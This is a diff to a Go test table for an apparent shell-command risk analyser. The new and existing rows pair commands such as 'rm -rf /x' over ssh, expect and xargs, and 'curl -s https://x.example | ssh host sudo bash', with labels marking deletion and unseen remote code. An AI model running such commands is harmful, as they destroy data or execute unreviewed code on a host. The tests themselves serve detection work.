@@ -358,6 +358,8 @@ func TestKnowledge(t *testing.T) {
 		{`expect -c 'spawn rm -rf /x; send "reboot\r"'`, `expect; [expect -c: spawn]rm delete:/x+R; [expect -c: send]reboot power:`},
 		{`ssh host -p 22 rm -rf /x`, `[ssh host]rm@host delete:/x+R`},
 		{`echo 'rm -rf /x' | ssh host`, `echo; [ssh host]rm@host delete:/x+R`},
+		{`echo 'rm -rf /x' | ssh host sh`, `echo; [ssh host>sh <<<]rm@host delete:/x+R`},
+		{`curl -s https://x.example | ssh host sudo bash`, `curl; [ssh host>sudo]bash@host unseen-code:https://x.example+D`},
 		{`ssh -N host rm -rf /x`, ``},
 		{`echo 'rm -rf /x' | xargs -I{} sh -c '{}'`, `echo; [xargs>sh -c]rm delete:/x+R`},
 		{`xargs -I{} sh -c '{}' < cmds.txt`, ``}, // a local file, as sh < cmds.txt
